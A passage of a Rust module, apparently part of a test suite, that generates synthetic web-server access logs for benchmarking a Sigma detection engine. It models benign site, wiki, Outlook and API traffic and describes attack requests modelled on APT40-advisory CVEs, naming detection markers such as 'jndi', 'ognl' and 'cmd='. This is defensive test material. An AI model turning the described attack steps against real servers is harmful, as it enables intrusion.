//! Web-server access logs for tests and benchmarks of the Sigma engine: ordinary traffic through
//! an internet-facing reverse proxy, and attack requests written from the public descriptions of
//! the CVEs in the APT40 advisory (CISA AA24-190A).
//!
//! The proxy is Apache httpd logging the `combined` format,
//! `%h %l %u %t "%r" %>s %b "%{Referer}i" "%{User-Agent}i"`, for everything it fronts:
//!
//! - the corporate site `www.northwind-traders.com` (pages, static assets, site search, a
//!   legacy PHP section, a JSP customer portal);
//! - a Confluence-like wiki under `/wiki`;
//! - Exchange: Outlook Web App under `/owa` on `mail.northwind-traders.com`, and the Outlook
//!   desktop endpoints (`/autodiscover`, `/mapi`, `/EWS`);
//! - a JSON API under `/api`.
//!
//! As Apache does, `"` and `\` inside the request, referrer and user agent are written as `\"`
//! and `\\`, and an empty body is written as `-`. Most browsers speak HTTP/2 to the proxy
//! (`HTTP/2.0` in the request), everything else HTTP/1.1. Times are UTC (`+0000`) over the week
//! starting Monday 2024-06-03, the same week as the demo network.
//!
//! Client addresses are public-looking ISP addresses (plus the real crawler and monitoring
//! ranges); the attackers use only the documentation ranges 198.51.100.0/24 and 203.0.113.0/24,
//! which the benign traffic never does.

use std::collections::VecDeque;
use std::fmt::Write as _;

use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;

use crate::out;
use crate::sim::Ctx;
use crate::world::PUBLIC_SITE;

/// Monday 2024-06-03 00:00:00 UTC.
const START: i64 = 1_717_372_800;
/// Benign lines are spread over this many days whatever their number, so time-bucketed queries
/// see a realistic span at any benchmark size.
const DAYS: usize = 7;
const MAIL_SITE: &str = "mail.northwind-traders.com";

/// `lines` ordinary access-log lines (no trailing newline), the same for the same `seed`, in
/// time order over one week. Cheap per line (one `String` each, about a million lines a second
/// in a release build), for multi-million-line benchmarks.
pub fn benign_access_log(lines: usize, seed: u64) -> impl Iterator<Item = String> {
    Generator::new(lines, seed).map(|(_, line)| line)
}

/// One attack request and what it is.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct AttackLine {
    /// The access-log line, in the same combined format as the benign traffic.
    pub line: String,
    /// The CVE exploited (`CVE-2021-44228`, …) or `web shell`.
    pub technique: &'static str,
    /// What the request does, in a few words.
    pub what: &'static str,
}

/// The attack requests, in the order they happen (Monday to Friday of the benign week): Log4Shell
/// probes, Confluence OGNL injection (CVE-2021-26084, CVE-2022-26134), Exchange ProxyShell and
/// the ASPX shell it drops, then a JSP web-shell session. Sources are in 198.51.100.0/24 and
/// 203.0.113.0/24 only.
pub fn attack_lines() -> Vec<AttackLine> {
    ATTACKS
        .iter()
        .map(|a| AttackLine { line: a.format(START + a.at), technique: a.technique, what: a.what })
        .collect()
}

/// `benign_lines` lines of [`benign_access_log`] (identical to it for the same seed) with every
/// line of [`attack_lines`] inserted at seeded random positions, in that order. Each attack line
/// is re-stamped with a time between its neighbours', so the whole log stays in time order.
/// Returns all lines and the 1-based line numbers of the attack lines, in [`attack_lines`] order.
pub fn mixed_access_log(benign_lines: usize, seed: u64) -> (Vec<String>, Vec<usize>) {
    let mut rng = stream(seed, 12);
    let mut slots: Vec<usize> = ATTACKS.iter().map(|_| rng.gen_range(0..=benign_lines)).collect();
    slots.sort_unstable();
    let mut benign = Generator::new(benign_lines, seed).peekable();
    let mut lines = Vec::with_capacity(benign_lines + ATTACKS.len());
    let mut numbers = Vec::with_capacity(ATTACKS.len());
    let mut prev: Option<i64> = None;
    let mut attacks = ATTACKS.iter().zip(slots).peekable();
    for i in 0..=benign_lines {
        while let Some((attack, _)) = attacks.next_if(|&(_, slot)| slot == i) {
            let next = benign.peek().map(|&(ts, _)| ts);
            let ts = match (prev, next) {
                (Some(p), Some(n)) => rng.gen_range(p..=n),
                (Some(t), None) | (None, Some(t)) => t,
                (None, None) => START + attack.at,
            };
            lines.push(attack.format(ts));
            numbers.push(lines.len());
            prev = Some(ts);
        }
        if let Some((ts, line)) = benign.next() {
            lines.push(line);
            prev = Some(ts);
        }
    }
    (lines, numbers)
}

/// Stream `n` of the generator seeded with `seed`: separate streams keep one part of a
/// generated network identical whatever is generated beside it.
pub(crate) fn stream(seed: u64, n: u64) -> ChaCha8Rng {
    let mut rng = ChaCha8Rng::seed_from_u64(seed);
    rng.set_stream(n);
    rng
}

// ---------------------------------------------------------------------------------------------
// Line formatting

const MONTHS: [&str; 12] =
    ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];

#[derive(Clone, Copy)]
enum Referer<'a> {
    None,
    /// A full URL as the browser sent it.
    Url(&'a str),
    /// A path on the corporate site (the wiki and API are on the same host).
    Site(&'a str),
    /// A path on the mail host.
    Mail(&'a str),
}

/// Everything that goes into one line.
struct Hit<'a> {
    ip: u32,
    user: &'a str,
    method: &'a str,
    uri: &'a str,
    proto: &'a str,
    status: u16,
    bytes: u64,
    referer: Referer<'a>,
    ua: &'a str,
}

impl Hit<'_> {
    fn write(&self, ts: i64, s: &mut String) {
        let (y, mo, d, h, mi, se) = out::utc_parts(ts);
        let ip = self.ip.to_be_bytes();
        let _ = write!(
            s,
            "{}.{}.{}.{} - {} [{d:02}/{}/{y}:{h:02}:{mi:02}:{se:02} +0000] \"{} ",
            ip[0],
            ip[1],
            ip[2],
            ip[3],
            self.user,
            MONTHS[mo as usize - 1],
            self.method
        );
        push_escaped(s, self.uri);
        let _ = write!(s, " {}\" {} ", self.proto, self.status);
        if self.bytes == 0 {
            s.push('-');
        } else {
            let _ = write!(s, "{}", self.bytes);
        }
        s.push_str(" \"");
        match self.referer {
            Referer::None => s.push('-'),
            Referer::Url(url) => push_escaped(s, url),
            Referer::Site(path) => {
                s.push_str("https://");
                s.push_str(PUBLIC_SITE);
                s.push_str(path);
            }
            Referer::Mail(path) => {
                s.push_str("https://");
                s.push_str(MAIL_SITE);
                s.push_str(path);
            }
        }
        s.push_str("\" \"");
        push_escaped(s, self.ua);
        s.push('"');
    }
}

/// Apache's escaping of logged request and header text: a backslash before `"` and `\`.
fn push_escaped(s: &mut String, text: &str) {
    if !text.contains(['"', '\\']) {
        s.push_str(text);
        return;
    }
    for c in text.chars() {
        if c == '"' || c == '\\' {
            s.push('\\');
        }
        s.push(c);
    }
}

/// Percent-encodes a query value as a browser form does (`plus`: spaces as `+`) or as
/// JavaScript's `encodeURIComponent` does (spaces as `%20`).
fn push_query_value(s: &mut String, text: &str, plus: bool) {
    const HEX: &[u8; 16] = b"0123456789ABCDEF";
    for &b in text.as_bytes() {
        match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                s.push(b as char)
            }
            b' ' if plus => s.push('+'),
            _ => {
                s.push('%');
                s.push(HEX[usize::from(b >> 4)] as char);
                s.push(HEX[usize::from(b & 15)] as char);
            }
        }
    }
}

/// Random lowercase hex: the only random text in benign lines, because hex cannot spell any of
/// the attack markers tests look for (`jndi`, `ognl`, `cmd=`, …).
fn push_hex<R: Rng>(s: &mut String, rng: &mut R, chars: usize) {
    const HEX: &[u8; 16] = b"0123456789abcdef";
    for _ in 0..chars {
        s.push(HEX[rng.gen_range(0..16)] as char);
    }
}

// ---------------------------------------------------------------------------------------------
// Time

/// Relative request rate per hour of day: a blend of office hours (wiki, mail) and the flatter
/// curve of public internet traffic (site, API, crawlers).
const HOURLY: [f64; 24] = [
    0.22, 0.2, 0.18, 0.18, 0.19, 0.22, 0.3, 0.5, 0.82, 0.95, 1.0, 0.98, 0.85, 0.95, 1.0, 0.98,
    0.92, 0.8, 0.6, 0.48, 0.42, 0.38, 0.32, 0.26,
];
const WEEKEND: f64 = 0.45;

/// Hands out line times: line `i` of `n` sits at quantile `(i + u) / n` of the week's request
/// rate, so times never decrease and the density follows the hourly and weekly curve.
struct Clock {
    rng: ChaCha8Rng,
    n: f64,
    i: u64,
    hour: usize,
    /// Cumulative weight at the start of each hour; one entry more than hours.
    cum: Vec<f64>,
}

impl Clock {
    fn new(lines: usize, seed: u64) -> Self {
        let mut cum = Vec::with_capacity(DAYS * 24 + 1);
        cum.push(0.0);
        for h in 0..DAYS * 24 {
            let w = HOURLY[h % 24] * if h / 24 >= 5 { WEEKEND } else { 1.0 };
            cum.push(cum[h] + w);
        }
        Clock { rng: stream(seed, 11), n: lines.max(1) as f64, i: 0, hour: 0, cum }
    }

    fn next(&mut self) -> i64 {
        let total = self.cum[DAYS * 24];
        let q = (self.i as f64 + self.rng.r#gen::<f64>()) / self.n * total;
        self.i += 1;
        while self.hour + 1 < DAYS * 24 && self.cum[self.hour + 1] <= q {
            self.hour += 1;
        }
        let (lo, hi) = (self.cum[self.hour], self.cum[self.hour + 1]);
        let frac = ((q - lo) / (hi - lo)).clamp(0.0, 0.9999);
        START + self.hour as i64 * 3_600 + (frac * 3_600.0) as i64
    }
}

/// Where formatted lines go: stamps them in order and stops after the requested number, so a
/// page view cut off at the end simply loses its last requests.
struct Out {
    clock: Clock,
    remaining: usize,
    queue: VecDeque<(i64, String)>,
    /// Time of the latest line, for values that depend on it (cache-busters, `since=`).
    last: i64,
}

impl Out {
    fn emit(&mut self, hit: &Hit<'_>) {
        if self.remaining == 0 {
            return;
        }
        self.remaining -= 1;
        let ts = self.clock.next();
        let mut s = String::with_capacity(256);
        hit.write(ts, &mut s);
        self.queue.push_back((ts, s));
        self.last = ts;
    }
}

// ---------------------------------------------------------------------------------------------
// What the benign clients ask for

const CHROME_WIN: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36";
const CHROME_MAC: &str = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36";
const EDGE: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36 Edg/125.0.0.0";
const FIREFOX_WIN: &str =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:126.0) Gecko/20100101 Firefox/126.0";
const FIREFOX_LINUX: &str =
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0";
const SAFARI_MAC: &str = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15";
const SAFARI_IPHONE: &str = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1";
const CHROME_ANDROID: &str = "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Mobile Safari/537.36";

/// Browsers with weights roughly as a European B2B site sees them.
const BROWSERS: &[(&str, u32)] = &[
    (CHROME_WIN, 34),
    (EDGE, 14),
    (CHROME_MAC, 9),
    (SAFARI_MAC, 6),
    (FIREFOX_WIN, 7),
    (FIREFOX_LINUX, 2),
    (SAFARI_IPHONE, 16),
    (CHROME_ANDROID, 12),
];

const OUTLOOK_AGENTS: &[&str] = &[
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17531; Pro)",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17628; Pro)",
    "MacOutlook/16.85.24051214 (Intelx64 Mac OS X 14.5.0)",
];

const GOOGLEBOT: &str = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
const GOOGLEBOT_MOBILE: &str = "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.6422.60 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
const BINGBOT: &str = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)";

const EXTERNAL_REFERERS: &[(&str, u32)] = &[
    ("https://www.google.com/", 55),
    ("https://www.bing.com/", 14),
    ("https://duckduckgo.com/", 8),
    ("https://www.linkedin.com/", 9),
    ("https://www.google.de/", 8),
    ("https://www.ecosia.org/", 3),
    ("https://t.co/", 3),
];

/// Content pages and their typical size.
const SITE_PAGES: &[(&str, u64)] = &[
    ("/", 41_822),
    ("/products/", 36_410),
    ("/products/industrial-sensors", 52_118),
    ("/products/edge-gateways", 48_307),
    ("/products/cloud-dashboard", 44_950),
    ("/solutions/manufacturing", 39_774),
    ("/solutions/logistics", 38_201),
    ("/about", 28_640),
    ("/about/leadership", 31_077),
    ("/contact", 22_415),
    ("/careers", 27_380),
    ("/careers/jobs/senior-network-engineer-1042", 19_866),
    ("/careers/jobs/field-service-technician-1057", 18_902),
    ("/news", 33_518),
    ("/news/2024/05/annual-report", 26_744),
    ("/news/2024/04/new-distribution-centre", 24_019),
    ("/blog/zero-downtime-firmware-updates", 35_260),
    ("/support/downloads", 30_115),
    ("/support/faq", 45_871),
    ("/privacy", 21_330),
    ("/index.php?page=partners", 25_604),
    ("/index.php?page=events&year=2024", 23_981),
    ("/index.php?page=distributors&region=emea", 27_145),
];

/// Listing pages with a page number appended.
const PAGINATED: &[(&str, u64)] = &[
    ("/news?page=", 31_902),
    ("/careers/jobs?location=remote&page=", 17_455),
    ("/products/industrial-sensors?sort=price_asc&page=", 49_610),
    ("/index.php?page=events&year=2023&p=", 22_870),
];

/// Loaded by every page; fonts are requested by the stylesheet, so it is their referrer.
const SITE_ASSETS: &[(&str, u64)] = &[
    ("/css/site.min.css?v=3.2.1", 48_213),
    ("/js/vendor.min.js?v=3.2.1", 187_332),
    ("/js/site.min.js?v=3.2.1", 24_610),
    ("/img/logo.png", 8_421),
    ("/fonts/inter-v13-latin-regular.woff2", 23_664),
    ("/fonts/inter-v13-latin-600.woff2", 24_408),
];
const SITE_CSS: &str = "/css/site.min.css?v=3.2.1";

const SITE_IMAGES: &[(&str, u64)] = &[
    ("/img/hero/factory-floor.png", 212_554),
    ("/img/products/ns-4410.png", 64_230),
    ("/img/products/eg-200.png", 58_911),
    ("/img/products/cd-cloud.png", 71_402),
    ("/img/team/leadership.png", 143_002),
    ("/img/icons/download.png", 1_934),
];

/// Old links and browser guesses that do not exist.
const NOT_FOUND: &[&str] = &[
    "/apple-touch-icon.png",
    "/apple-touch-icon-precomposed.png",
    "/news/2023/11/trade-fair-recap",
    "/products/legacy-controllers",
    "/img/products/ns-3300.png",
    "/careers/jobs/sales-engineer-0981",
];

/// Missing trailing slashes and old addresses, each answered with a 301 to the second.
const MOVED: &[(&str, &str)] = &[
    ("/products", "/products/"),
    ("/about/", "/about"),
    ("/jobs", "/careers"),
    ("/index.php?page=contact", "/contact"),
];

/// Site searches; [`push_query_value`] encodes them, with `+` or `%20` for spaces.
const SEARCHES: &[&str] = &[
    "industrial sensors",
    "edge gateway price",
    "firmware 4.2 release notes",
    "NS-4410 data sheet",
    "\"annual report\" 2023",
    "C++ SDK",
    "modbus tcp",
    "opc ua server",
    "warranty claim",
    "return policy",
    "distributor São Paulo",
    "München office",
    "Zürich",
    "support hours",
    "careers remote",
    "temperature sensor -40 °C",
    "gateway 5G",
    "api documentation",
    "price list 2024",
    "installation guide pdf",
    "eg-200 vs eg-300",
    "50% discount",
];

const WIKI_PAGES: &[(&str, &str)] = &[
    ("ENG", "Release+Process"),
    ("ENG", "Architecture+Overview"),
    ("ENG", "Coding+Guidelines"),
    ("IT", "VPN+Setup+Guide"),
    ("IT", "New+Laptop+Checklist"),
    ("IT", "Password+Policy"),
    ("HR", "Onboarding+Checklist"),
    ("HR", "Holiday+Calendar+2024"),
    ("OPS", "On-call+Rota"),
    ("OPS", "Incident+Review+2024-05-21"),
    ("SALES", "Price+List+Q2"),
    ("SALES", "Partner+Programme"),
];
const WIKI_SEARCHES: &[&str] = &[
    "vpn",
    "onboarding",
    "release process",
    "on-call",
    "expense claim",
    "printer",
    "holiday 2024",
    "architecture",
    "guest wifi",
];
const WIKI_ASSETS: &[(&str, u64)] = &[
    ("/wiki/s/en_GB/8804/2f1a6c9d3e/_/download/contextbatch/css/_super/batch.css", 412_118),
    (
        "/wiki/s/en_GB/8804/2f1a6c9d3e/_/download/contextbatch/js/_super/batch.js?locale=en-GB",
        1_928_404,
    ),
    ("/wiki/s/en_GB/8804/2f1a6c9d3e/_/styles/colors.css", 26_511),
    (
        "/wiki/s/en_GB/8804/2f1a6c9d3e/_/download/resources/com.atlassian.auiplugin:aui-core/fonts/atlassian-icons.woff2",
        110_276,
    ),
    ("/wiki/images/icons/profilepics/default.png", 2_731),
];

const OWA_LOGON: &str =
    "/owa/auth/logon.aspx?url=https%3a%2f%2fmail.northwind-traders.com%2fowa%2f&reason=0";
const OWA_LOGON_FAILED: &str =
    "/owa/auth/logon.aspx?url=https%3a%2f%2fmail.northwind-traders.com%2fowa%2f&reason=2";
const OWA_LOGON_ASSETS: &[(&str, u64)] = &[
    ("/owa/auth/15.2.1544/themes/resources/logon.css", 9_842),
    ("/owa/auth/15.2.1544/scripts/premium/flogon.js", 41_230),
    ("/owa/auth/15.2.1544/themes/resources/segoeui-regular.woff2", 61_440),
    ("/owa/auth/15.2.1544/themes/resources/favicon.ico", 7_886),
];
const OWA_APP_ASSETS: &[(&str, u64)] = &[
    ("/owa/prem/15.2.1544.4/scripts/boot.worldwide.0.mouse.js", 396_211),
    ("/owa/prem/15.2.1544.4/scripts/boot.worldwide.1.mouse.js", 1_245_870),
    ("/owa/prem/15.2.1544.4/resources/styles/0/boot.worldwide.mouse.css", 118_430),
    ("/owa/prem/15.2.1544.4/resources/styles/fonts/office365icons.woff2", 52_104),
    ("/owa/prem/15.2.1544.4/resources/images/0/sprite1.mouse.png", 48_622),
];
const OWA_ACTIONS: &[&str] =
    &["FindItem", "GetItem", "GetConversationItems", "FindConversation", "GetCalendarView"];

const FIRST_NAMES: &[&str] = &[
    "anna", "ben", "chen", "david", "elif", "fatima", "george", "hana", "ivan", "julia", "kenji",
    "laura", "marco", "nadia", "oliver", "priya", "rafael", "sara", "tom", "wei",
];
const LAST_NAMES: &[&str] = &[
    "schmidt", "nguyen", "okafor", "rossi", "tanaka", "kowalski", "haddad", "larsen", "moreau",
    "silva", "jensen", "patel", "fischer", "dubois", "kaya",
];

// ---------------------------------------------------------------------------------------------
// Clients

#[derive(Clone, Copy)]
struct Browser {
    ip: u32,
    ua: &'static str,
    proto: &'static str,
    /// A returning visitor: assets are revalidated (304) or not requested at all.
    cached: bool,
}

struct Employee {
    browser: Browser,
    outlook_ua: &'static str,
    email: String,
    mailbox: String,
}

#[derive(Clone, Copy)]
enum ApiKind {
    MobileApp,
    Integration,
    /// The legacy EDI endpoint, behind HTTP basic authentication at the proxy, so the user is
    /// logged.
    Edi(&'static str),
}

#[derive(Clone, Copy)]
struct Agent {
    ip: u32,
    ua: &'static str,
    api: ApiKind,
}

/// An uptime monitor and the one request it repeats.
#[derive(Clone, Copy)]
struct Monitor {
    ip: u32,
    ua: &'static str,
    method: &'static str,
    uri: &'static str,
    bytes: u64,
}

const MONITORS: &[Monitor] = &[
    Monitor {
        ip: u32::from_be_bytes([216, 144, 250, 150]),
        ua: "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
        method: "HEAD",
        uri: "/",
        bytes: 0,
    },
    Monitor {
        ip: u32::from_be_bytes([69, 162, 124, 235]),
        ua: "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
        method: "GET",
        uri: "/api/health",
        bytes: 27,
    },
    Monitor {
        ip: u32::from_be_bytes([178, 255, 152, 2]),
        ua: "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
        method: "GET",
        uri: "/",
        bytes: 41_822,
    },
    Monitor {
        ip: u32::from_be_bytes([185, 180, 12, 65]),
        ua: "Mozilla/5.0 (compatible; Site24x7)",
        method: "GET",
        uri: "/owa/healthcheck.htm",
        bytes: 18,
    },
];

#[derive(Clone, Copy)]
enum Kind {
    Visitor,
    Wiki,
    Owa,
    Outlook,
    Api,
    Crawler,
    Monitor,
    Curl,
}

/// New sessions by kind; monitors and curl make one request each, the others several views.
const KINDS: &[(Kind, u32)] = &[
    (Kind::Visitor, 38),
    (Kind::Wiki, 11),
    (Kind::Owa, 9),
    (Kind::Outlook, 9),
    (Kind::Api, 12),
    (Kind::Crawler, 4),
    (Kind::Monitor, 14),
    (Kind::Curl, 3),
];

/// One client's visit: a sequence of page views, each a burst of requests.
struct Session {
    kind: Kind,
    client: usize,
    views: u32,
    /// The last page, the referrer of the next; empty before the first view.
    page: String,
    /// OWA numbers its service calls.
    seq: u32,
}

/// Visits in progress at once; each burst goes to one of them, so sessions interleave.
const ACTIVE: usize = 24;

struct Generator {
    rng: ChaCha8Rng,
    out: Out,
    sessions: Vec<Option<Session>>,
    visitors: Vec<Browser>,
    employees: Vec<Employee>,
    crawlers: Vec<(u32, &'static str)>,
    agents: Vec<Agent>,
    curls: Vec<(u32, &'static str)>,
}

fn weighted<T: Copy, R: Rng>(rng: &mut R, items: &[(T, u32)]) -> T {
    items.choose_weighted(rng, |&(_, w)| w).expect("non-empty, positive weights").0
}

fn browser<R: Rng>(rng: &mut R, ip: u32) -> Browser {
    Browser {
        ip,
        ua: weighted(rng, BROWSERS),
        // Most browsers speak HTTP/2 to the proxy; older stacks and some middleboxes do not.
        proto: if rng.gen_bool(0.65) { "HTTP/2.0" } else { "HTTP/1.1" },
        cached: rng.gen_bool(0.4),
    }
}

/// A dynamic page's size: the template's plus or minus a few percent.
fn vary<R: Rng>(rng: &mut R, base: u64) -> u64 {
    base - base / 16 + rng.gen_range(0..=base / 8)
}

/// Geometric number of page views with the given mean (at least 1).
fn views<R: Rng>(rng: &mut R, mean: f64) -> u32 {
    let u = 1.0 - rng.r#gen::<f64>();
    1 + (u.ln() / (1.0 - 1.0 / mean).ln()) as u32
}

/// A JavaScript cache-buster (`_=` epoch milliseconds), taken when the page was loaded.
fn epoch_ms<R: Rng>(rng: &mut R, now: i64) -> i64 {
    (now - rng.gen_range(0..40)) * 1_000 + rng.gen_range(0..1_000)
}

impl Browser {
    fn hit<'a>(
        &self,
        method: &'a str,
        uri: &'a str,
        status: u16,
        bytes: u64,
        referer: Referer<'a>,
    ) -> Hit<'a> {
        Hit {
            ip: self.ip,
            user: "-",
            method,
            uri,
            proto: self.proto,
            status,
            bytes,
            referer,
            ua: self.ua,
        }
    }

    /// Static files: downloaded on a first visit; a returning visitor revalidates some (304)
    /// and takes the rest from its cache without asking.
    fn assets<R: Rng>(
        &self,
        out: &mut Out,
        rng: &mut R,
        assets: &[(&str, u64)],
        referer: Referer<'_>,
    ) {
        for &(asset, size) in assets {
            // Fonts are loaded by the stylesheet, which is their referrer.
            let referer =
                if asset.starts_with("/fonts/") { Referer::Site(SITE_CSS) } else { referer };
            if !self.cached {
                out.emit(&self.hit("GET", asset, 200, size, referer));
            } else if rng.gen_bool(0.35) {
                out.emit(&self.hit("GET", asset, 304, 0, referer));
            }
        }
    }
}

impl Generator {
    fn new(lines: usize, seed: u64) -> Self {
        let mut rng = stream(seed, 10);
        let visitors = (0..360)
            .map(|_| {
                let ip = Ctx::public_ip(&mut rng);
                browser(&mut rng, ip)
            })
            .collect();
        // A fifth of the staff work from branch offices behind a few NAT addresses, the rest
        // from home.
        let branches: Vec<u32> = (0..4).map(|_| Ctx::public_ip(&mut rng)).collect();
        let employees = (0..90)
            .map(|_| {
                let ip = if rng.gen_bool(0.2) {
                    *branches.choose(&mut rng).expect("non-empty")
                } else {
                    Ctx::public_ip(&mut rng)
                };
                let mut mailbox = String::with_capacity(36);
                for (i, n) in [8, 4, 4, 4, 12].into_iter().enumerate() {
                    if i > 0 {
                        mailbox.push('-');
                    }
                    push_hex(&mut mailbox, &mut rng, n);
                }
                Employee {
                    browser: browser(&mut rng, ip),
                    outlook_ua: OUTLOOK_AGENTS.choose(&mut rng).expect("non-empty"),
                    email: format!(
                        "{}.{}",
                        FIRST_NAMES.choose(&mut rng).expect("non-empty"),
                        LAST_NAMES.choose(&mut rng).expect("non-empty")
                    ),
                    mailbox,
                }
            })
            .collect();
        // Addresses from the crawlers' published ranges.
        let crawlers = (0..12)
            .map(|i| {
                let (net, ua): ([u8; 3], &str) = match i % 6 {
                    0 => ([66, 249, 66], GOOGLEBOT),
                    1 => ([66, 249, 68], GOOGLEBOT_MOBILE),
                    2 => ([66, 249, 79], GOOGLEBOT),
                    3 => ([157, 55, 39], BINGBOT),
                    4 => ([40, 77, 167], BINGBOT),
                    _ => ([207, 46, 13], BINGBOT),
                };
                (out::ipv4(net[0], net[1], net[2], rng.gen_range(1..=254)), ua)
            })
            .collect();
        let agents = (0..26)
            .map(|i| {
                let (ua, api) = match i % 13 {
                    0..=5 => {
                        ("NorthwindApp/3.8.1 (iPhone; iOS 17.5; Scale/3.00)", ApiKind::MobileApp)
                    }
                    6..=8 => ("NorthwindApp/3.8.0 (Android 14; okhttp/4.12.0)", ApiKind::MobileApp),
                    9 => ("python-requests/2.31.0", ApiKind::Integration),
                    10 => ("Apache-HttpClient/4.5.14 (Java/17.0.11)", ApiKind::Integration),
                    11 => ("Go-http-client/2.0", ApiKind::Integration),
                    _ => (
                        "Apache-HttpClient/4.5.13 (Java/11.0.22)",
                        ApiKind::Edi(if i < 13 { "edi-contoso" } else { "edi-fabrikam" }),
                    ),
                };
                Agent { ip: Ctx::public_ip(&mut rng), ua, api }
            })
            .collect();
        let curls = ["curl/8.5.0", "curl/7.81.0", "curl/8.7.1"]
            .into_iter()
            .map(|ua| (Ctx::public_ip(&mut rng), ua))
            .collect();
        let out = Out {
            clock: Clock::new(lines, seed),
            remaining: lines,
            queue: VecDeque::new(),
            last: START,
        };
        Generator {
            rng,
            out,
            sessions: (0..ACTIVE).map(|_| None).collect(),
            visitors,
            employees,
            crawlers,
            agents,
            curls,
        }
    }

    /// One page view of a random active session, starting a new session in its slot when the
    /// old one is done.
    fn burst(&mut self) {
        let slot = self.rng.gen_range(0..ACTIVE);
        let mut session = match self.sessions[slot].take() {
            Some(s) if s.views > 0 => s,
            _ => self.new_session(),
        };
        match session.kind {
            Kind::Visitor => self.visitor(&mut session),
            Kind::Wiki => self.wiki(&mut session),
            Kind::Owa => self.owa(&mut session),
            Kind::Outlook => self.outlook(&mut session),
            Kind::Api => self.api(&mut session),
            Kind::Crawler => self.crawler(&mut session),
            Kind::Monitor => self.monitor(&session),
            Kind::Curl => self.curl(&session),
        }
        session.views = session.views.saturating_sub(1);
        self.sessions[slot] = Some(session);
    }

    fn new_session(&mut self) -> Session {
        let rng = &mut self.rng;
        let kind = weighted(rng, KINDS);
        let (client, views) = match kind {
            Kind::Visitor => (rng.gen_range(0..self.visitors.len()), views(rng, 4.0)),
            Kind::Wiki => (rng.gen_range(0..self.employees.len()), views(rng, 7.0)),
            Kind::Owa => (rng.gen_range(0..self.employees.len()), views(rng, 9.0)),
            Kind::Outlook => (rng.gen_range(0..self.employees.len()), views(rng, 6.0)),
            Kind::Api => (rng.gen_range(0..self.agents.len()), views(rng, 6.0)),
            Kind::Crawler => (rng.gen_range(0..self.crawlers.len()), views(rng, 12.0)),
            Kind::Monitor => (rng.gen_range(0..MONITORS.len()), 1),
            Kind::Curl => (rng.gen_range(0..self.curls.len()), 1),
        };
        Session { kind, client, views, page: String::new(), seq: rng.gen_range(1..40) }
    }

    /// A member of the public on the corporate site: lands from a search engine or directly,
    /// then browses, searches, pages through listings, uses the contact form or the portal.
    fn visitor(&mut self, s: &mut Session) {
        let b = self.visitors[s.client];
        let (rng, out) = (&mut self.rng, &mut self.out);
        if s.page.is_empty() {
            let referer = if rng.gen_bool(0.55) {
                Referer::Url(weighted(rng, EXTERNAL_REFERERS))
            } else {
                Referer::None
            };
            let &(page, size) = if rng.gen_bool(0.3) {
                &SITE_PAGES[0]
            } else {
                SITE_PAGES.choose(rng).expect("pages")
            };
            out.emit(&b.hit("GET", page, 200, vary(rng, size), referer));
            b.assets(out, rng, SITE_ASSETS, Referer::Site(page));
            if !b.cached {
                out.emit(&b.hit("GET", "/favicon.ico", 200, 15_086, Referer::Site(page)));
            }
            site_images(out, rng, &b, page);
            s.page = page.to_string();
            return;
        }
        let prev = std::mem::take(&mut s.page);
        let referer = Referer::Site(&prev);
        let mut uri = String::new();
        match rng.gen_range(0..100u32) {
            0..=21 => {
                uri.push_str("/search?q=");
                push_query_value(
                    &mut uri,
                    SEARCHES.choose(rng).expect("searches"),
                    rng.gen_bool(0.8),
                );
                if rng.gen_bool(0.3) {
                    let _ = write!(uri, "&page={}", rng.gen_range(2..=4));
                }
                let (status, bytes) =
                    if rng.gen_bool(0.01) { (500, 1_203) } else { (200, vary(rng, 29_400)) };
                out.emit(&b.hit("GET", &uri, status, bytes, referer));
            }
            22..=31 => {
                let &(listing, size) = PAGINATED.choose(rng).expect("listings");
                let _ = write!(uri, "{listing}{}", rng.gen_range(2..=9));
                out.emit(&b.hit("GET", &uri, 200, vary(rng, size), referer));
            }
            32..=35 => {
                let &(old, new) = MOVED.choose(rng).expect("moved");
                out.emit(&b.hit("GET", old, 301, 239, referer));
                out.emit(&b.hit("GET", new, 200, vary(rng, 30_000), referer));
                uri.push_str(new);
            }
            36..=38 => {
                let missing = NOT_FOUND.choose(rng).expect("missing");
                out.emit(&b.hit("GET", missing, 404, 1_245, referer));
                uri = prev.clone();
            }
            39..=41 => {
                let form = Referer::Site("/contact");
                out.emit(&b.hit("POST", "/contact", 302, 0, form));
                out.emit(&b.hit("GET", "/contact?sent=1", 200, vary(rng, 22_980), form));
                uri.push_str("/contact?sent=1");
            }
            42..=49 => {
